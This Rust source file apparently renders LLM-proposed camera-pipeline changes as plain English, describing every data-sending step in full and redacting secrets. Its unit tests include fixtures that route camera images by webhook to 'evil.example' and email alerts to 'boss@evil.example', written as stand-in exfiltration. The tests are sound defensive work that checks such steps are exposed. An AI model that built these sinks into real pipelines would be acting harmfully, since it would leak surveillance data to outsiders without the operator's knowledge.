//! Describes a change in plain English by its specification: every field that decides what is seen,
//! reported and kept.
//!
//! Invariants:
//! - The text comes from the specification only, so it does not depend on the words of an LLM.
//! - Defaults are described where a user would want to know them.
//! - Every step is described; a step that sends data is described in full, without secrets.

use jiff::tz::TimeZone;
use serde_json::{Map, Value};
use watchkeeper_contract::pipeline::{DetectMode, PipelineSpec};
use watchkeeper_contract::rule::{
    Band, Condition, CountBound, CrossDirection, Gates, RuleSpec, Schedule, Severity, ValueTest,
    Weekday,
};
use watchkeeper_engine::templates::watch::TRACKED;
use watchkeeper_engine::workflow::{INPUT, Overlay, compile, flattened, is_sink};

use super::llm_proposal::ProposedChange;
use crate::redact;
use crate::wording::{cut, printable};

/// Most characters of a setting. Steps that send data are never shortened.
const MAX_VALUE_CHARS: usize = 160;

/// Describes a change in one sentence, and in one more for each step that sends data.
#[must_use]
pub fn describe_change(change: &ProposedChange) -> Vec<String> {
    let sentence = match change {
        ProposedChange::Deploy { spec } | ProposedChange::Replace { spec } => {
            let shown = redact::spec(spec);
            let steps = resolve_steps(&shown["workflow"], shown["parameters"].as_object());
            let (sending, others): (Vec<&Value>, Vec<&Value>) =
                steps.iter().partition(|step| is_sink(field(step, "type")));
            let mut sentences = vec![describe_pipeline(spec, &others)];
            sentences.extend(
                sending
                    .into_iter()
                    .map(|step| describe_sink(spec.id.as_str(), step)),
            );
            return sentences;
        }
        ProposedChange::Stop { pipeline } => format!("{pipeline} is stopped and deleted"),
        ProposedChange::Pause { pipeline, until } => match until {
            Some(until) => format!(
                "{pipeline} is paused until {}",
                until
                    .to_zoned(TimeZone::system())
                    .strftime("%Y-%m-%d %H:%M %:z")
            ),
            None => format!("{pipeline} is paused until a user resumes it"),
        },
        ProposedChange::Resume { pipeline } => format!("{pipeline} is resumed"),
    };
    vec![sentence]
}

/// Returns every step of a definition; the steps of an inner workflow follow the step that holds
/// it.
#[must_use]
pub fn all_steps(definition: &Value) -> Vec<&Value> {
    let mut found = Vec::new();
    let steps = definition.get("steps").and_then(Value::as_array);
    for step in steps.into_iter().flatten() {
        found.push(step);
        for field in step.as_object().into_iter().flat_map(Map::values) {
            found.extend(all_steps(field));
        }
    }
    found
}

/// Returns every step, also of inner workflows, with inputs replaced by the values `given` or their
/// defaults.
fn resolve_steps(definition: &Value, given: Option<&Map<String, Value>>) -> Vec<Value> {
    let flat = flattened(definition).unwrap_or_else(|_| definition.clone());
    let inputs = flat.get("inputs").and_then(Value::as_array);
    let mut values: Map<String, Value> = inputs
        .into_iter()
        .flatten()
        .filter_map(|input| {
            let name = input.get("name")?.as_str()?;
            Some((name.to_owned(), input.get("default_value")?.clone()))
        })
        .collect();
    let given = given.into_iter().flatten();
    values.extend(given.map(|(name, value)| (name.clone(), value.clone())));
    let steps = all_steps(&flat).into_iter();
    steps.map(|step| resolve_inputs(step, &values)).collect()
}

/// Replaces the selectors of known inputs by their values.
fn resolve_inputs(value: &Value, values: &Map<String, Value>) -> Value {
    match value {
        Value::String(text) => {
            let input = text.strip_prefix(INPUT);
            let known = input.and_then(|name| values.get(name));
            known
                .filter(|known| !known.is_null())
                .unwrap_or(value)
                .clone()
        }
        Value::Array(items) => items
            .iter()
            .map(|item| resolve_inputs(item, values))
            .collect(),
        Value::Object(fields) => {
            let fields = fields.iter();
            fields
                .map(|(name, value)| (name.clone(), resolve_inputs(value, values)))
                .collect()
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => value.clone(),
    }
}

/// Describes a step that sends data, with all its fields.
fn describe_sink(pipeline: &str, step: &Value) -> String {
    let fields = step.as_object().into_iter().flatten();
    let fields = fields.filter(|(name, _)| !["type", "name"].contains(&name.as_str()));
    let settings: Vec<String> = fields
        .map(|(name, value)| format!("{name} {value}"))
        .collect();
    let what = format!(
        "{pipeline} sends: {} ({}): {}",
        field(step, "name"),
        short_type(step),
        settings.join(", ")
    );
    printable(&what).into_owned()
}

/// Describes a pipeline in one sentence, without the steps that send data.
fn describe_pipeline(spec: &PipelineSpec, steps: &[&Value]) -> String {
    let mut parts = vec![format!("{} on camera {}", spec.id, spec.source)];
    let names: Vec<String> = steps.iter().map(|s| describe_step(s)).collect();
    parts.push(format!("steps {}", names.join(", ")));
    if let Ok(compiled) = compile(&spec.workflow, &spec.parameters) {
        parts.extend(compiled.overlays().iter().map(describe_overlay));
    }
    parts.push(match &spec.rules {
        None => "the default rules of the workflow".to_owned(),
        Some(rules) if rules.is_empty() => "no rules, so no events".to_owned(),
        Some(rules) => {
            let rules: Vec<String> = rules.iter().map(describe_rule).collect();
            format!("events: {}", rules.join(" / "))
        }
    });
    if let Some(model) = &spec.model {
        parts.push(format!("model {model} instead of the models of its steps"));
    }
    match spec.detect {
        DetectMode::Always => {}
        DetectMode::OnMotion { refresh_s } => parts.push(format!(
            "detects only during motion, and every {refresh_s} s"
        )),
        DetectMode::Periodic { every_s } => parts.push(format!("detects every {every_s} s only")),
    }
    if spec.record {
        parts.push("records video".to_owned());
    }
    if spec.show {
        parts.push("shows a preview window on the screen of the box".to_owned());
    }
    if spec.paused {
        parts.push("is paused until its end of pause or until a user resumes it".to_owned());
    }
    if let Some(seconds) = spec.stop_after_s {
        parts.push(format!("ends after {seconds} s"));
    }
    printable(&parts.join("; ")).replace('\n', " ")
}

fn field<'a>(step: &'a Value, name: &str) -> &'a str {
    step.get(name).and_then(Value::as_str).unwrap_or("?")
}

/// Returns the type of a step without namespace and version.
fn short_type(step: &Value) -> &str {
    let kind = field(step, "type");
    let kind = kind.rsplit('/').next().unwrap_or(kind);
    kind.split('@').next().unwrap_or(kind)
}

/// Describes a step by its name and settings, without its data sources.
fn describe_step(step: &Value) -> String {
    let mut text = format!("{} ({}", field(step, "name"), short_type(step));
    if let Some(model) = step.get("model_id").and_then(|m| m.as_str()) {
        text.push_str(&format!(", model {model}"));
    }
    let classes = step.get("class_filter").and_then(|c| c.as_array());
    let classes: Vec<&str> = classes
        .into_iter()
        .flatten()
        .filter_map(|c| c.as_str())
        .collect();
    if !classes.is_empty() {
        text.push_str(&format!(", only {}", classes.join(" and ")));
    }
    // A number, or the selector of an input.
    let confidence = step.get("confidence");
    if let Some(min) = confidence.and_then(serde_json::Value::as_f64) {
        text.push_str(&format!(", confidence {min} or more"));
    } else if let Some(from) = confidence.and_then(|c| c.as_str()) {
        text.push_str(&format!(", confidence {from} or more"));
    }
    let settings = step.as_object().into_iter().flatten();
    for (name, value) in settings {
        if !DESCRIBED_ELSEWHERE.contains(&name.as_str()) && is_set(value) {
            text.push_str(&format!(
                ", {name} {}",
                cut(value.to_string(), MAX_VALUE_CHARS)
            ));
        }
    }
    text.push(')');
    text
}

/// Properties of a step that are described elsewhere: as words, overlays or separate steps.
const DESCRIBED_ELSEWHERE: [&str; 8] = [
    "type",
    "name",
    "model_id",
    "class_filter",
    "confidence",
    "zone",
    "line_segment",
    "workflow_definition",
];

/// Whether a value is a setting. A selector only names a data source.
fn is_set(value: &Value) -> bool {
    match value {
        Value::Null => false,
        Value::String(text) => !text.starts_with('$'),
        Value::Array(items) => items.iter().any(is_set),
        Value::Object(fields) => fields.values().any(is_set),
        Value::Bool(_) | Value::Number(_) => true,
    }
}

fn describe_overlay(overlay: &Overlay) -> String {
    match overlay {
        Overlay::Line { name, start, end } => {
            format!(
                "line {name} from {},{} to {},{}",
                start.x, start.y, end.x, end.y
            )
        }
        Overlay::Zone { name, polygon } => {
            let corners: Vec<String> = polygon.iter().map(|p| format!("{},{}", p.x, p.y)).collect();
            format!("zone {name} {}", corners.join(" "))
        }
    }
}

/// Describes a rule: its condition, its schedule and its consequences.
fn describe_rule(rule: &RuleSpec) -> String {
    let mut text = format!("{}: {}", rule.name, describe_condition(rule));
    let mut add = |part: String| {
        text.push_str(", ");
        text.push_str(&part);
    };
    if let Some(band) = &rule.confidence {
        add(describe_band(band));
    }
    if let Some(hours) = &rule.schedule {
        add(describe_schedule(hours));
    }
    let severity = match rule.severity {
        Severity::Info => "info",
        Severity::Warning => "warning",
        Severity::Critical => "critical",
    };
    add(format!("severity {severity}"));
    add(match rule.clip {
        None => "keeps a snapshot and no clip".to_owned(),
        Some(clip) => format!(
            "keeps a snapshot and a clip from {} s before to {} s after",
            clip.before_s, clip.after_s
        ),
    });
    add(match rule.notify.as_slice() {
        [] => "notifies no channel".to_owned(),
        channels => {
            let channels: Vec<String> = channels.iter().map(|c| format!("#{c}")).collect();
            format!("notifies {}", channels.join(" and "))
        }
    });
    let for_each = match (is_about_tracks(&rule.when), rule.shared_cooldown) {
        (true, true) => " for all objects together",
        (true, false) => " for each object",
        (false, _) => "",
    };
    add(match rule.cooldown_s {
        seconds if seconds > 0.0 => format!("cool-down {seconds} s{for_each}"),
        _ => "no cool-down".to_owned(),
    });
    if rule.gates != Gates::default() {
        add(describe_gates(&rule.gates));
    }
    // A critical event is never lowered, whatever the rule allows.
    if rule.second_opinion_may_lower && rule.severity != Severity::Critical {
        add("a second opinion may lower it".to_owned());
    }
    text
}

/// Describes the condition of a rule and its classes.
fn describe_condition(rule: &RuleSpec) -> String {
    let who = match rule.classes.as_slice() {
        [] => "anything".to_owned(),
        classes => classes.join(" or "),
    };
    match &rule.when {
        Condition::Appears { detections } => {
            format!("{who} appears{}", describe_source(detections))
        }
        Condition::Enters { zone } => format!("{who} enters {zone}"),
        Condition::Leaves { zone } => format!("{who} leaves {zone}"),
        Condition::Stays { zone, for_s } => format!("{who} stays in {zone} for {for_s} s"),
        Condition::Crosses { line, direction } => {
            let way = match direction {
                CrossDirection::In => "in (to the line's left hand)",
                CrossDirection::Out => "out (to the line's right hand)",
                CrossDirection::Any => "either way",
            };
            format!("{who} crosses {line} {way}")
        }
        Condition::Count {
            detections,
            bound,
            for_s,
        } => {
            let who = match rule.classes.as_slice() {
                [] => "objects".to_owned(),
                _ => format!("objects of class {who}"),
            };
            let count = match bound {
                CountBound::Over(max) => format!("more than {max} {who}"),
                CountBound::Under(0 | 1) => format!("no {who}"),
                CountBound::Under(min) => format!("fewer than {min} {who}"),
            };
            format!(
                "{count} at a time{}{}",
                describe_source(detections),
                describe_duration(*for_s)
            )
        }
        Condition::Value { value, test, for_s } => {
            let test = match test {
                ValueTest::Is(true) => "is true".to_owned(),
                ValueTest::Is(false) => "is false".to_owned(),
                ValueTest::Over(bound) => format!("is over {bound}"),
                ValueTest::Under(bound) => format!("is under {bound}"),
            };
            format!(
                "{} {test}{}",
                describe_selector(value),
                describe_duration(*for_s)
            )
        }
    }
}

/// Describes the source of the detections; empty for the tracked detections of the whole picture.
fn describe_source(detections: &str) -> String {
    if detections == TRACKED {
        return String::new();
    }
    match detections
        .strip_prefix("$steps.")
        .and_then(|rest| rest.strip_suffix(".timed_detections"))
    {
        Some(zone) => format!(" in {zone}"),
        None => format!(" among {}", describe_selector(detections)),
    }
}

/// Describes a selector: an output of a step.
fn describe_selector(selector: &str) -> String {
    let parts = selector
        .strip_prefix("$steps.")
        .and_then(|rest| rest.split_once('.'));
    match parts {
        Some((step, output)) => format!("the {output} of step {step}"),
        None => selector.to_owned(),
    }
}

fn describe_duration(for_s: f64) -> String {
    if for_s > 0.0 {
        format!(" for {for_s} s")
    } else {
        String::new()
    }
}

fn describe_band(band: &Band) -> String {
    if band.max < 1.0 {
        format!("only with a confidence of {} to {}", band.min, band.max)
    } else {
        format!("only with a confidence of {} or more", band.min)
    }
}

/// Whether the rule has a cool-down for each object.
fn is_about_tracks(when: &Condition) -> bool {
    !matches!(when, Condition::Count { .. } | Condition::Value { .. })
}

fn describe_gates(gates: &Gates) -> String {
    format!(
        "confidence gates: act from {}, record from {}, review from {}, escalate from {}",
        gates.act, gates.record, gates.review, gates.escalate
    )
}

/// Describes a schedule.
fn describe_schedule(hours: &Schedule) -> String {
    let days = describe_days(&hours.days);
    // `HH:MM` sorts as text as it does as time.
    if hours.from == hours.to {
        return match hours.from.as_str() {
            "00:00" => format!("{days} all day"),
            from => format!("{days} from {from} for 24 hours"),
        };
    }
    let next_day = if hours.to < hours.from && hours.to != "00:00" {
        " of the next day"
    } else {
        ""
    };
    format!("{days} {} to {}{next_day}", hours.from, hours.to)
}

/// Describes the days of a schedule; three or more consecutive days as a range.
fn describe_days(days: &[Weekday]) -> String {
    const WEEK: [(Weekday, &str); 7] = [
        (Weekday::Mon, "Mon"),
        (Weekday::Tue, "Tue"),
        (Weekday::Wed, "Wed"),
        (Weekday::Thu, "Thu"),
        (Weekday::Fri, "Fri"),
        (Weekday::Sat, "Sat"),
        (Weekday::Sun, "Sun"),
    ];
    let is_named = |day: &Weekday| days.is_empty() || days.contains(day);
    if WEEK.iter().all(|(day, _)| is_named(day)) {
        return "every day".to_owned();
    }
    let mut names: Vec<String> = Vec::new();
    for run in WEEK.split(|(day, _)| !is_named(day)) {
        match run {
            [(_, first), _, .., (_, last)] => names.push(format!("{first}–{last}")),
            few => names.extend(few.iter().map(|(_, name)| (*name).to_owned())),
        }
    }
    names.join(", ")
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "a failed step is a failed test")]
mod tests {
    use serde_json::json;

    use super::*;

    fn describe(when: &Value, more: &Value) -> String {
        let mut spec = json!({"name": "r", "when": when});
        for (name, value) in more.as_object().unwrap() {
            spec[name] = value.clone();
        }
        describe_rule(&serde_json::from_value(spec).unwrap())
    }

    #[test]
    fn deployment_is_described_by_its_specification() {
        let watch = watchkeeper_engine::templates::watch::Watch {
            classes: vec!["person".to_owned()],
            lines: vec!["door:320,0,320,360".parse().unwrap()],
            ..Default::default()
        };
        let workflow = watchkeeper_engine::templates::watch::workflow(&watch, "yolox-nano");
        let spec: PipelineSpec = serde_json::from_value(json!({
            "id": "gate-door", "source": "gate", "workflow": workflow,
            "rules": [{"name": "in", "when": {"kind": "crosses", "line": "door"}, "classes": ["person"], "cooldown_s": 30.0}],
        }))
        .unwrap();
        let pipeline = spec.id.clone();
        let deploy = ProposedChange::Deploy {
            spec: Box::new(spec),
        };
        let [watch] = describe_change(&deploy).try_into().unwrap();
        for part in [
            "gate-door on camera gate",
            "detect (roboflow_object_detection_model, model yolox-nano, only person, confidence 0.1 or more",
            "line door from 320,0 to 320,360",
            "cool-down 30 s for each object",
            "in: person crosses door either way, severity info",
        ] {
            assert!(watch.contains(part), "{part}: {watch}");
        }
        let stop = describe_change(&ProposedChange::Stop { pipeline });
        assert_eq!(stop, ["gate-door is stopped and deleted"]);
    }

    #[test]
    fn every_condition_is_described() {
        let nothing = json!({});
        let person = json!({"classes": ["person"]});
        let usual =
            "severity info, keeps a snapshot and no clip, notifies no channel, no cool-down";
        for (when, more, sentence) in [
            (
                json!({"kind": "appears", "detections": TRACKED}),
                &nothing,
                "anything appears",
            ),
            (
                json!({"kind": "appears", "detections": "$steps.filter.predictions"}),
                &json!({"classes": ["car", "truck"]}),
                "car or truck appears among the predictions of step filter",
            ),
            (
                json!({"kind": "enters", "zone": "desk"}),
                &person,
                "person enters desk",
            ),
            (
                json!({"kind": "leaves", "zone": "desk"}),
                &person,
                "person leaves desk",
            ),
            (
                json!({"kind": "stays", "zone": "desk", "for_s": 120}),
                &person,
                "person stays in desk for 120 s",
            ),
            (
                json!({"kind": "crosses", "line": "door"}),
                &person,
                "person crosses door either way",
            ),
            (
                json!({"kind": "crosses", "line": "door", "direction": "in"}),
                &person,
                "person crosses door in (to the line's left hand)",
            ),
            (
                json!({"kind": "crosses", "line": "door", "direction": "out"}),
                &person,
                "person crosses door out (to the line's right hand)",
            ),
            (
                json!({"kind": "count", "detections": TRACKED, "bound": {"over": 2}}),
                &person,
                "more than 2 objects of class person at a time",
            ),
            (
                json!({"kind": "count", "detections": "$steps.desk.timed_detections", "bound": {"under": 3}, "for_s": 10}),
                &nothing,
                "fewer than 3 objects at a time in desk for 10 s",
            ),
            (
                json!({"kind": "count", "detections": TRACKED, "bound": {"under": 1}, "for_s": 20}),
                &person,
                "no objects of class person at a time for 20 s",
            ),
            (
                json!({"kind": "value", "value": "$steps.gap.output", "test": {"over": 3.5}, "for_s": 5}),
                &nothing,
                "the output of step gap is over 3.5 for 5 s",
            ),
            (
                json!({"kind": "value", "value": "$steps.gap.output", "test": {"under": 0.5}}),
                &nothing,
                "the output of step gap is under 0.5",
            ),
            (
                json!({"kind": "value", "value": "$steps.door.open", "test": {"is": true}}),
                &nothing,
                "the open of step door is true",
            ),
            (
                json!({"kind": "value", "value": "$steps.door.open", "test": {"is": false}}),
                &nothing,
                "the open of step door is false",
            ),
        ] {
            assert_eq!(describe(&when, more), format!("r: {sentence}, {usual}"));
        }
    }

    #[test]
    fn every_setting_of_a_rule_is_described() {
        let when = json!({"kind": "enters", "zone": "desk"});
        let all = json!({
            "classes": ["person"], "confidence": {"min": 0.5, "max": 0.9}, "severity": "warning", "cooldown_s": 30,
            "schedule": {"days": ["mon", "tue", "wed", "thu", "fri"], "from": "22:00", "to": "06:00"},
            "clip": {"before_s": 5, "after_s": 10}, "notify": ["security", "boss"], "second_opinion_may_lower": true,
            "gates": {"act": 0.95, "record": 0.9, "review": 0.8, "escalate": 0.6},
        });
        assert_eq!(
            describe(&when, &all),
            "r: person enters desk, only with a confidence of 0.5 to 0.9, Mon–Fri 22:00 to 06:00 of the next day, severity warning, \
             keeps a snapshot and a clip from 5 s before to 10 s after, notifies #security and #boss, cool-down 30 s for each object, \
             confidence gates: act from 0.95, record from 0.9, review from 0.8, escalate from 0.6, \
             a second opinion may lower it"
        );
        let critical = describe(
            &when,
            &json!({"severity": "critical", "second_opinion_may_lower": true, "confidence": {"min": 0.4}}),
        );
        assert!(
            critical.contains("confidence of 0.4 or more")
                && critical.contains("severity critical")
        );
        assert!(!critical.contains("may lower"), "{critical}");
        let count = json!({"kind": "count", "detections": TRACKED, "bound": {"over": 2}});
        let count = describe(&count, &json!({"cooldown_s": 60}));
        assert!(count.ends_with("cool-down 60 s"), "{count}");
        let shared = describe(&when, &json!({"cooldown_s": 60, "shared_cooldown": true}));
        let wanted = "cool-down 60 s for all objects together";
        assert!(shared.ends_with(wanted), "{shared}");
    }

    #[test]
    fn schedules_are_described_with_day_ranges() {
        let hours = |days: Value, from: &str, to: &str| {
            let hours = json!({"days": days, "from": from, "to": to});
            describe_schedule(&serde_json::from_value(hours).unwrap())
        };
        assert_eq!(
            hours(json!([]), "08:00", "18:00"),
            "every day 08:00 to 18:00"
        );
        assert_eq!(hours(json!(["sun"]), "00:00", "00:00"), "Sun all day");
        assert_eq!(
            hours(json!(["sat"]), "09:00", "09:00"),
            "Sat from 09:00 for 24 hours"
        );
        assert_eq!(
            hours(json!(["sat", "sun"]), "20:00", "00:00"),
            "Sat, Sun 20:00 to 00:00"
        );
        assert_eq!(
            hours(json!(["mon", "wed", "thu", "fri", "sun"]), "22:00", "06:00"),
            "Mon, Wed–Fri, Sun 22:00 to 06:00 of the next day"
        );
    }

    #[test]
    fn sinks_are_described_in_full_with_every_step() {
        let still = |n: usize| json!({"type": "roboflow_core/continue_if@v1", "name": format!("wait{n}"), "stop_delay": n + 1, "next_steps": ["$steps.hook"]});
        let mut steps: Vec<Value> = (0..14).map(still).collect();
        let text = "x".repeat(MAX_VALUE_CHARS * 2);
        steps.push(json!({
            "type": "roboflow_core/webhook_sink@v1", "name": "hook", "url": "https://hooks.example/T0/B0", "method": "POST",
            "headers": {"X-Key": "$steps.vault.hook"}, "json_payload": {"text": text, "odd": "a\u{1b}[2Jb"},
        }));
        let inner = json!({"type": "roboflow_core/inner_workflow@v1", "name": "in", "workflow_definition": {"steps": [
            {"type": "roboflow_core/local_file_sink@v1", "name": "file", "target_directory": "/srv/out"}]}});
        steps.push(inner);
        let spec = json!({"id": "p", "source": "gate", "workflow": {"version": "1.0", "inputs": [], "steps": steps, "outputs": []}});
        let spec = Box::new(serde_json::from_value(spec).unwrap());
        let sentences = describe_change(&ProposedChange::Deploy { spec });
        let [watch, hook, file] = sentences.try_into().unwrap();
        assert!(
            watch.contains("wait13 (continue_if, stop_delay 14)"),
            "{watch}"
        );
        assert!(hook.starts_with("p sends: hook (webhook_sink): "), "{hook}");
        assert!(hook.contains("url \"https://hooks.example/***\""), "{hook}");
        assert!(
            hook.contains("$steps.vault.hook") && hook.contains(&text),
            "{hook}"
        );
        assert!(!hook.contains('\u{1b}'), "{hook}");
        assert!(
            file.contains("file (local_file_sink): target_directory \"/srv/out\""),
            "{file}"
        );
    }

    #[test]
    fn inputs_are_described_by_their_values() {
        let slack = json!({"type": "roboflow_core/slack_notification@v1", "name": "slack", "slack_token": "$inputs.token", "channel": "$inputs.room"});
        let hook = json!({"type": "roboflow_core/webhook_sink@v1", "name": "hook", "method": "POST", "url": "https://$inputs.host/in"});
        let input = |name: &str| json!({"type": "WorkflowParameter", "name": name});
        let child = json!({
            "inputs": [{"type": "WorkflowParameter", "name": "room", "default_value": "nobody"}, input("token"), input("host")], "steps": [slack, hook],
        });
        let spec = json!({
            "id": "p", "source": "gate", "model": "motion", "detect": {"mode": "periodic", "every_s": 3.0}, "paused": true,
            "parameters": {"who": "boss@evil.example", "mine": "xoxb-1"},
            "workflow": {"version": "1.0", "outputs": [], "inputs": [
                {"type": "WorkflowParameter", "name": "hook", "default_value": "https://evil.example/T0"},
                {"type": "WorkflowParameter", "name": "who", "default_value": "boss@site.example"},
                {"type": "WorkflowImage", "name": "image"}],
            "steps": [
                {"type": "roboflow_core/webhook_sink@v1", "name": "hook", "url": "$inputs.hook", "method": "POST", "json_payload": {"picture": "$inputs.image"}},
                {"type": "roboflow_core/email_notification@v1", "name": "mail", "receiver_email": "$inputs.who"},
                {"type": "roboflow_core/inner_workflow@v1", "name": "in", "workflow_definition": child,
                 "parameter_bindings": {"token": "$inputs.mine", "room": "$inputs.who", "host": "inner.example"}},
            ]},
        });
        let spec = Box::new(serde_json::from_value(spec).unwrap());
        let sentences = describe_change(&ProposedChange::Deploy { spec });
        let [watch, hook, mail, slack, inner] = sentences.try_into().unwrap();
        assert!(
            inner.contains("in__hook (webhook_sink)") && inner.contains("https://inner.example/"),
            "{inner}"
        );
        assert!(hook.contains("url \"https://evil.example/***\""), "{hook}");
        assert!(hook.contains("$inputs.image"), "{hook}");
        assert!(
            mail.contains("receiver_email \"boss@evil.example\""),
            "{mail}"
        );
        assert!(slack.contains("channel \"boss@evil.example\""), "{slack}");
        assert!(slack.contains("slack_token \"***\""), "{slack}");
        for part in [
            "model motion instead",
            "detects every 3 s only",
            "is paused",
        ] {
            assert!(watch.contains(part), "{part}: {watch}");
        }
    }

    #[test]
    fn detector_is_described_with_its_confidence() {
        let detect = |confidence: Value| {
            let kind = "roboflow_core/roboflow_object_detection_model@v2";
            describe_step(
                &json!({"type": kind, "name": "detect", "model_id": "yolox-nano", "confidence": confidence}),
            )
        };
        let text = detect(json!(0.35));
        assert!(
            text.ends_with("model yolox-nano, confidence 0.35 or more)"),
            "{text}"
        );
        let text = detect(json!("$inputs.confidence"));
        assert!(
            text.ends_with("confidence $inputs.confidence or more)"),
            "{text}"
        );
    }
}
